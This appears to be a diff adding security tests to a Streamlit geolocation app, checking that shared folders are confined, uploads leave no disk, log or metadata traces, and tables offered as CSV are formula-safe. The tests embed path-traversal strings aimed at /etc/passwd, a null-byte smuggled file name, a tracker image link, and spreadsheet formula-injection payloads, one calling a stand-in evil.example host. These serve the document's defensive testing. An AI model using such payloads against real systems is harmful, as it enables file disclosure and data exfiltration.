@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import contextlib
 import dataclasses
 import io
+import os
 import re
 import sys
 from pathlib import Path
@@ -21,7 +23,8 @@ from geocore.models.registry import WeightsInfo, create_model, register_model, u
 st_testing = pytest.importorskip("streamlit.testing.v1")
 AppTest = st_testing.AppTest
 
-APP = Path(__file__).resolve().parents[1] / "app"
+REPO = Path(__file__).resolve().parents[1]
+APP = REPO / "app"
 PAGES = {
     "home": APP / "Home.py",
     "locate": APP / "pages" / "1_Locate.py",
@@ -63,6 +66,8 @@ def _env(monkeypatch):
     """Preselect the test model and make GeoCLIP's backbone weights absent, whatever this machine holds."""
     monkeypatch.setenv("GEOCORE_APP_TEST_MODEL", TEST_MODEL)
     monkeypatch.setenv("GEOCORE_APP_OFFLINE", "1")
+    for var in ("GEOCORE_DATA_DIRS", "GEOCORE_RESULTS_DIR", "GEOCORE_IMAGES_DIR"):  # no folders shared unless told
+        monkeypatch.delenv(var, raising=False)
     entry = registry.model_entry("geoclip")
     missing = WeightsInfo(False, "CLIP ViT-L/14 backbone not found (test)", DOWNLOAD)
     monkeypatch.setitem(registry._REGISTRY, "geoclip", dataclasses.replace(entry, weights_info=lambda: missing))
@@ -80,6 +85,12 @@ def _jpeg(seed=0, gps=None, size=(96, 128)) -> bytes:
         kwargs["exif"] = exif
     Image.fromarray(arr).save(buf, format="JPEG", **kwargs)
     return buf.getvalue()
+
+
+def _share(monkeypatch, folder: Path, results: Path | None = None) -> None:
+    """Share `folder` (GEOCORE_DATA_DIRS) and open the Failures page on `results` (default: the folder)."""
+    monkeypatch.setenv("GEOCORE_DATA_DIRS", str(folder))
+    monkeypatch.setenv("GEOCORE_RESULTS_DIR", str(results or folder))
 
 
 def _run(page: str, state: dict | None = None) -> AppTest:
@@ -321,7 +332,7 @@ def _results(path: Path, errors_km: list[float], model: str = "m") -> Path:
 def test_failures_metrics_filters_and_comparison(tmp_path, monkeypatch):
     _results(tmp_path / "a.parquet", [0.5, 10.0, 100.0, 1000.0])  # acc@25 km = 50 %
     _results(tmp_path / "b.parquet", [50.0, 20.0, 5.0, 3000.0])  # right within 25 km: img1, img2
-    monkeypatch.setenv("GEOCORE_RESULTS_DIR", str(tmp_path))
+    _share(monkeypatch, tmp_path)
     at = _run("failures")
     metrics = at.dataframe[0].value.iloc[0]
     assert metrics["n"] == 4
@@ -388,7 +399,7 @@ def test_failures_how_sure_coverage_abstention_and_localizability_filter(tmp_pat
     from geocore.eval.uncertainty import calibrate_results, uncertainty_tables
 
     df = _uncertain_results(tmp_path / "u.parquet")
-    monkeypatch.setenv("GEOCORE_RESULTS_DIR", str(tmp_path))
+    _share(monkeypatch, tmp_path)
     at = _run("failures")
     tables = uncertainty_tables(df)
     shown = _coverage_shown(at)
@@ -434,7 +445,7 @@ def test_failures_drilldown_image_heatmap_gradcam_and_missing_image(tmp_path, mo
     images.mkdir()
     for img_id in ("img3.jpg", "img2.jpg"):  # img1.jpg and img0.jpg are not in the folder
         (images / img_id).write_bytes(_jpeg(int(img_id[3]), size=(40, 56)))
-    monkeypatch.setenv("GEOCORE_RESULTS_DIR", str(tmp_path))
+    _share(monkeypatch, tmp_path)
     at = _run("failures")
     assert not at.get("iframe")  # no drill-down until a folder is given
     at.text_input(key="f_img_dir").set_value(str(images)).run()
@@ -464,7 +475,7 @@ def test_failures_drilldown_image_heatmap_gradcam_and_missing_image(tmp_path, mo
 
 def test_failures_bad_file_is_a_notice(tmp_path, monkeypatch):
     (tmp_path / "broken.csv").write_text("a,b\n1,2\n")
-    monkeypatch.setenv("GEOCORE_RESULTS_DIR", str(tmp_path))
+    _share(monkeypatch, tmp_path)
     at = _run("failures")
     errors = _texts(at.error)
     assert len(errors) == 1 and "broken.csv" in errors[0]  # one notice naming the file, no traceback
@@ -561,3 +572,344 @@ def test_gallery_view_scores_a_region_without_touching_the_shared_model():
     assert grid.num_candidates() > 1 and bool(((lat >= 35) & (lat <= 60) & (lon >= -10) & (lon <= 30)).all())
     with pytest.raises(InputError):
         gallery_view(model, GalleryChoice("bbox", (-5.0, -30.0, 5.0, -20.0)))  # open Atlantic: no city inside
+
+
+# --- Safe to share: server folders, names from files, uploads, tables --------------------------------------------
+
+def _refusals(at: AppTest) -> list[str]:
+    return [t for t in _texts(at.error) if "outside the folders this server shares" in t]
+
+
+def test_failures_shares_no_folders_by_default(tmp_path, monkeypatch):
+    """GEOCORE_DATA_DIRS unset: no folder box, nothing listed (even with GEOCORE_RESULTS_DIR set), uploads work."""
+    from ui.folders import NOT_SHARED
+
+    _results(tmp_path / "a.parquet", [0.5, 10.0, 100.0, 1000.0])
+    monkeypatch.setenv("GEOCORE_RESULTS_DIR", str(tmp_path))  # a pre-fill alone shares nothing
+    at = _run("failures")
+    assert not at.text_input and not at.selectbox and not at.radio  # no folder box, no file list, no source choice
+    assert NOT_SHARED in _texts(at.caption) and "GEOCORE_DATA_DIRS" in NOT_SHARED
+    at.file_uploader(key="a_up").set_value(("a.parquet", (tmp_path / "a.parquet").read_bytes(),
+                                            "application/octet-stream")).run()
+    assert not at.exception, [e.value for e in at.exception]
+    assert at.dataframe[0].value.iloc[0]["n"] == 4  # the uploaded file's metrics
+    assert any("needs the benchmark images in a folder this server shares" in t for t in _texts(at.caption))
+
+
+def test_failures_folder_box_refuses_paths_outside_the_shared_folders(tmp_path, monkeypatch):
+    shared, outside = tmp_path / "shared", tmp_path / "outside"
+    shared.mkdir()
+    outside.mkdir()
+    _results(shared / "a.parquet", [0.5, 10.0])
+    _results(outside / "theirs.parquet", [1.0, 2.0])
+    (shared / "link_out").symlink_to(outside, target_is_directory=True)
+    (shared / "link_theirs.parquet").symlink_to(outside / "theirs.parquet")  # a file link out: never listed
+    monkeypatch.setenv("HOME", str(outside))
+    _share(monkeypatch, shared)
+    at = _run("failures")
+    assert at.selectbox(key="a_file").options == ["a.parquet"]
+    for typed in ("/etc", "/", str(outside), "../outside", str(shared / ".." / "outside"), "link_out", "~",
+                  "/nonexistent"):
+        at.text_input(key="a_dir").set_value(typed).run()
+        assert not at.exception, [e.value for e in at.exception]
+        refused = _refusals(at)
+        assert len(refused) == 1 and "\n" not in refused[0], (typed, _texts(at.error))
+        assert not any(s.key == "a_file" for s in at.selectbox), typed  # nothing listed
+        page = " ".join(_texts(at.markdown) + _texts(at.info) + _texts(at.caption))
+        assert "passwd" not in page and "theirs.parquet" not in page, typed
+    at.text_input(key="a_dir").set_value(str(shared)).run()
+    assert not _refusals(at) and at.selectbox(key="a_file").options == ["a.parquet"]
+
+    monkeypatch.setenv("GEOCORE_RESULTS_DIR", "/etc")  # the pre-fill is confined too
+    at = _run("failures")
+    assert len(_refusals(at)) == 1 and not any(s.key == "a_file" for s in at.selectbox)
+
+
+_opened: list[str] | None = None  # paths opened while a test listens (an audit hook cannot be removed)
+
+
+def _audit(event, args):
+    if _opened is not None and event == "open" and isinstance(args[0], (str, bytes, os.PathLike)):
+        _opened.append(os.fsdecode(args[0]))
+
+
+sys.addaudithook(_audit)
+
+
+@contextlib.contextmanager
+def _files_opened():
+    """Every path Python opens (builtins.open, PIL, ...) inside the block."""
+    global _opened
+    _opened = []
+    try:
+        yield _opened
+    finally:
+        _opened = None
+
+
+def test_failures_img_ids_cannot_leave_the_image_folder(tmp_path, monkeypatch, one_thread):
+    shared, outside = tmp_path / "shared", tmp_path / "outside"
+    images = shared / "images"
+    images.mkdir(parents=True)
+    outside.mkdir()
+    secret = outside / "secret.jpg"
+    secret.write_bytes(_jpeg(7, size=(40, 56)))  # a real photo: if anything opened it, it would show
+    (images / "ok.jpg").write_bytes(_jpeg(8, size=(40, 56)))
+    (images / "link_out.jpg").symlink_to(secret)
+    # each way out once here (every page run draws all the tabs); tests/test_data_roots.py has the full list
+    bad = ["../../etc/passwd", "/etc/passwd", "..\\..\\outside\\secret.jpg", "link_out.jpg",
+           "ok.jpg\x00../../etc/passwd"]
+    tracker = "![t](https://tracker.example/p.png)"  # markdown that would make the browser fetch an image
+    _results(shared / "a.parquet", [10.0 * (i + 1) for i in range(len(bad) + 2)])
+    df = pd.read_parquet(shared / "a.parquet")
+    df["IMG_ID"] = ["ok.jpg"] + bad + [tracker]  # worst first: the tracker, then the bad ones
+    df.to_parquet(shared / "a.parquet", index=False)
+    _share(monkeypatch, shared, results=shared)
+    monkeypatch.setenv("GEOCORE_IMAGES_DIR", str(images))
+    at = _run("failures")
+    rows = at.selectbox(key="f_row")
+    assert set(rows.options and [o.split(" — ")[0] for o in rows.options]) == set(df["IMG_ID"])
+    shown = [t for t in _texts(at.markdown) + _texts(at.info) if "tracker.example" in t]
+    assert len(shown) == 2 and all(r"\!\[t\]\(https" in t for t in shown), shown  # as text, not an image
+    images_before = len(at.get("image"))
+    for img_id in bad:
+        with _files_opened() as opened:
+            at.selectbox(key="f_row").set_value(img_id).run()
+        assert not at.exception, [e.value for e in at.exception]
+        errors = [t for t in _texts(at.error) if t.startswith("Not opened")]
+        assert len(errors) == 1 and "\n" not in errors[0], (img_id, _texts(at.error))
+        assert len(at.get("image")) == images_before, img_id  # no photo, no Grad-CAM
+        assert not at.get("iframe"), img_id  # no heatmap either
+        touched = [p for p in opened if "passwd" in p or "secret" in p or "outside" in p]
+        assert not touched, (img_id, touched)
+    at.selectbox(key="f_row").set_value("ok.jpg").run()  # a name inside the folder still opens
+    assert not [t for t in _texts(at.error) if t.startswith("Not opened")]
+    assert any('caption: "ok.jpg"' in str(i.proto) for i in at.get("image"))
+
+
+def test_tables_shown_are_neutralised_with_numbers_kept():
+    """What `show_table` hands to st.dataframe (its CSV download): geocore.data.safe_io's rule, numbers kept."""
+    from ui.tables import csv_safe
+
+    df = pd.DataFrame({"IMG_ID": ["=cmd|' /C calc'!A0", "a.jpg", "-2+3", "@SUM(A1)", "\t=1", "-12.5"],
+                       "error_km": [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0], "n": [1, 2, 3, 4, 5, 6], "=col": ["+x"] * 6})
+    safe = csv_safe(df)
+    assert list(safe["IMG_ID"]) == ["'=cmd|' /C calc'!A0", "a.jpg", "'-2+3", "'@SUM(A1)", "'\t=1", "-12.5"]
+    assert list(safe["'=col"]) == ["'+x"] * 6  # a column name too
+    assert safe["error_km"].dtype == df["error_km"].dtype and safe["n"].dtype == df["n"].dtype
+    assert list(df["IMG_ID"])[0].startswith("=")  # the caller's frame is left alone
+
+
+def test_failures_tables_offered_as_csv_are_formula_safe(tmp_path, monkeypatch):
+    ids = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd", "@SUM(A1)", "-1+2", "plain.jpg"]
+    _results(tmp_path / "a.parquet", [1.0, 10.0, 100.0, 1000.0, 2000.0])
+    df = pd.read_parquet(tmp_path / "a.parquet")
+    df["IMG_ID"] = ids
+    df.to_parquet(tmp_path / "=evil.parquet", index=False)
+    (tmp_path / "a.parquet").unlink()
+    _share(monkeypatch, tmp_path)
+    at = _run("failures")
+    shown = [d.value for d in at.dataframe]
+    cells = [c for d in shown for col in d.columns if d[col].dtype == object for c in d[col] if isinstance(c, str)]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))
+                and not re.fullmatch(r"-?[\d,.]+", c)], "formula-like cell offered for CSV download"
+    worst = next(d for d in shown if "IMG_ID" in d.columns)
+    assert set(worst["IMG_ID"]) == {"'" + i for i in ids[:4]} | {"plain.jpg"}
+    assert worst["error_km"].dtype.kind == "f"  # numbers stay numbers
+    assert at.dataframe[0].value.iloc[0]["results"] == "'=evil.parquet"  # the file's name in the metrics table
+
+
+PRIVATE_NAME = "holiday_private_IMG_4821.jpg"
+PRIVATE_GPS = (12.3456, 65.4321)
+PRIVATE_MARKERS = (b"OWNER-ALICE-COMMENT", b"ICC-PRIVATE-PROFILE", b"PRIVATE-XMP", b"Exif\x00\x00",
+                   b"http://ns.adobe.com/xap", b"CameraMakerPrivate")
+IMAGE_SUFFIXES = {".jpg", ".jpeg", ".png", ".webp", ".gif", ".bmp", ".tif", ".tiff", ".heic", ".heif", ".avif"}
+
+
+def _private_jpeg(seed: int, size=(96, 128)) -> bytes:
+    """A photo carrying everything private a camera writes: EXIF GPS and camera, an XMP packet, an ICC profile and
+    a JPEG comment, each with a marker no served image may contain."""
+    arr = (np.random.default_rng(seed).random((*size, 3)) * 255).astype("uint8")
+    exif = Image.Exif()
+    exif[0x010F] = "CameraMakerPrivate"  # Make
+    lat, lon = PRIVATE_GPS
+    exif[0x8825] = {1: "N", 2: (lat, 0.0, 0.0), 3: "E", 4: (lon, 0.0, 0.0)}
+    buf = io.BytesIO()
+    Image.fromarray(arr).save(buf, format="JPEG", exif=exif, comment=b"OWNER-ALICE-COMMENT",
+                              icc_profile=b"ICC-PRIVATE-PROFILE" * 4,
+                              xmp=b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>PRIVATE-XMP</x:xmpmeta>")
+    return buf.getvalue()
+
+
+def _metadata_left(data: bytes) -> list[str]:
+    """What private metadata an image the page serves still carries (empty: none)."""
+    left = [m.decode("latin-1") for m in PRIVATE_MARKERS if m in data]
+    img = Image.open(io.BytesIO(data))
+    if img.getexif():
+        left.append("EXIF tags")
+    left += sorted({"exif", "icc_profile", "xmp", "comment"} & set(img.info))
+    return left
+
+
+def _looks_like_image(path: Path) -> bool:
+    if path.suffix.lower() in IMAGE_SUFFIXES:
+        return True
+    try:
+        with path.open("rb") as f:
+            head = f.read(16)
+    except OSError:
+        return False
+    return (head.startswith((b"\xff\xd8\xff", b"\x89PNG", b"GIF8", b"BM", b"II*\x00", b"MM\x00*"))
+            or (head[:4] == b"RIFF" and head[8:12] == b"WEBP") or head[4:8] == b"ftyp")
+
+
+def _files(root: Path) -> dict[Path, tuple[int, int]]:
+    out = {}
+    for dirpath, dirnames, filenames in os.walk(root):
+        dirnames[:] = [d for d in dirnames if d not in (".git", ".venv", "node_modules", "__pycache__")]
+        for name in filenames:
+            p = Path(dirpath) / name
+            try:
+                st_ = p.stat()
+            except OSError:
+                continue
+            out[p] = (st_.st_mtime_ns, st_.st_size)
+    return out
+
+
+def _written(before: dict, root: Path) -> list[Path]:
+    return [p for p, sig in _files(root).items() if before.get(p) != sig]
+
+
+def _holds(path: Path, chunks: list[bytes]) -> bool:
+    try:
+        if path.stat().st_size > 50_000_000:
+            return False
+        data = path.read_bytes()
+    except OSError:
+        return False
+    return any(c in data for c in chunks)
+
+
+@contextlib.contextmanager
+def _every_log_record():
+    """Every log record of the process at DEBUG (Streamlit's own loggers too), captured instead of printed."""
+    import logging
+
+    import streamlit.logger as st_logger
+
+    records: list[str] = []
+    loggers = [logging.getLogger()] + [lg for lg in logging.Logger.manager.loggerDict.values()
+                                        if isinstance(lg, logging.Logger)]
+    levels = {lg: lg.level for lg in loggers}
+    fmt = logging.Formatter("%(name)s %(levelname)s %(message)s")
+    original = logging.Logger.callHandlers
+
+    def capture(self, record):
+        records.append(fmt.format(record))
+
+    global_level = st_logger._global_log_level
+    logging.Logger.callHandlers = capture
+    st_logger.set_log_level("DEBUG")
+    for lg in loggers:
+        lg.setLevel(logging.DEBUG)
+    try:
+        yield records
+    finally:
+        logging.Logger.callHandlers = original
+        st_logger.set_log_level(global_level)
+        for lg, level in levels.items():
+            lg.setLevel(level)
+
+
+@pytest.fixture
+def served(monkeypatch):
+    """Every file the pages hand to Streamlit's media file manager (images shown, downloads): (mimetype, bytes)."""
+    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
+
+    got: list[tuple[str, bytes]] = []
+    original = MemoryMediaFileStorage.load_and_get_id
+
+    def spy(self, path_or_data, mimetype, kind, filename=None):
+        data = path_or_data if isinstance(path_or_data, bytes) else Path(path_or_data).read_bytes()
+        got.append((mimetype, data))
+        return original(self, path_or_data, mimetype, kind, filename)
+
+    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", spy)
+    return got
+
+
+def test_uploads_stay_private_no_disk_no_logs_no_metadata(tmp_path, monkeypatch, served, one_thread):
+    """Photos uploaded (test seam and the real st.file_uploader) on Locate, the case report and Explain: no new
+    file holds their bytes or is an image (temp folder, GEOCORE_CACHE_DIR, working directory; the system temp
+    folder and the repository for their bytes), no log record names them or their coordinates, and no image the
+    pages serve (thumbnails, Grad-CAM) nor the report's images carries their metadata."""
+    import base64
+    import tempfile
+    import warnings
+
+    private_tmp, cache, cwd = tmp_path / "tmp", tmp_path / "cache", tmp_path / "cwd"
+    for d in (private_tmp, cache, cwd):
+        d.mkdir()
+    system_tmp = Path(tempfile.gettempdir())
+    monkeypatch.setattr(tempfile, "tempdir", str(private_tmp))
+    monkeypatch.setenv("TMPDIR", str(private_tmp))
+    monkeypatch.setenv("GEOCORE_CACHE_DIR", str(cache))
+    monkeypatch.chdir(cwd)
+    seam_photo, real_photo = _private_jpeg(21), _private_jpeg(22)
+    seam_name, real_name = "seam_" + PRIVATE_NAME, PRIVATE_NAME
+    chunks = [p[len(p) // 2: len(p) // 2 + 48] for p in (seam_photo, real_photo)]  # random pixels: unique bytes
+    strict = [private_tmp, cache, cwd]
+    before = {root: _files(root) for root in (*strict, system_tmp, REPO)}
+
+    with _every_log_record() as records, warnings.catch_warnings(record=True) as warned:
+        warnings.simplefilter("always")
+        at = _run("locate", {"_test_uploads": [(seam_name, seam_photo)]})
+        at.file_uploader(key="uploads").set_value([(real_name, real_photo, "image/jpeg")]).run()
+        assert not at.exception, [e.value for e in at.exception]
+        assert _numbers(_line_with(at, "located")) == [2]  # both photos located
+        assert {s.value for s in at.subheader} >= {seam_name, real_name}
+        assert any(f"{PRIVATE_GPS[0]:.4f}" in t for t in _texts(at.success) + _texts(at.warning))  # shown to the user
+        at.button(key="report_prepare").click().run()
+        assert not at.exception, [e.value for e in at.exception]
+        report = at.session_state["_case_report"][1]
+        ex = _run("explain")
+        ex.file_uploader(key="explain_upload").set_value((real_name, real_photo, "image/jpeg")).run()
+        assert not ex.exception, [e.value for e in ex.exception]
+        assert any(s.value == "Grad-CAM" for s in ex.subheader)
+
+    # nothing on disk
+    for root in strict:
+        new = _written(before[root], root)
+        assert not [p for p in new if _looks_like_image(p) or _holds(p, chunks)], (root, new)
+    for root in (system_tmp, REPO):
+        new = [p for p in _written(before[root], root) if not p.is_relative_to(tmp_path)]
+        assert not [p for p in new if _holds(p, chunks)], root
+    # nothing in the logs: no photo names, no coordinates, no bytes
+    said = "\n".join(records + [str(w.message) for w in warned])
+    assert records, "no log record captured: the capture is broken"
+    for secret in ("holiday_private", "IMG_4821", f"{PRIVATE_GPS[0]:.3f}", f"{PRIVATE_GPS[1]:.3f}",
+                   *(m.decode("latin-1") for m in PRIVATE_MARKERS[:3])):
+        assert secret not in said, secret
+    # no metadata in what the pages serve
+    images = [(m, d) for m, d in served if m.startswith("image/")]
+    assert len(images) >= 3  # two thumbnails on Locate, Explain's Grad-CAM overlay
+    for mimetype, data in images:
+        assert not _metadata_left(data), (mimetype, _metadata_left(data))
+    report_images = [base64.b64decode(b) for b in re.findall(r"data:image/[a-z]+;base64,([A-Za-z0-9+/=]+)", report)]
+    assert report_images
+    for data in report_images:
+        assert not _metadata_left(data), _metadata_left(data)
+
+
+def test_failures_drilldown_serves_the_photo_without_metadata(tmp_path, monkeypatch, served, one_thread):
+    images = tmp_path / "images"
+    images.mkdir()
+    _results(tmp_path / "a.parquet", [10.0, 100.0])
+    (images / "img1.jpg").write_bytes(_private_jpeg(23, size=(40, 56)))
+    _share(monkeypatch, tmp_path)
+    monkeypatch.setenv("GEOCORE_IMAGES_DIR", str(images))
+    at = _run("failures")
+    assert any('caption: "img1.jpg"' in str(i.proto) for i in at.get("image"))  # worst first: img1 opened
+    photos = [d for m, d in served if m.startswith("image/")]
+    assert photos and all(not _metadata_left(d) for d in photos)
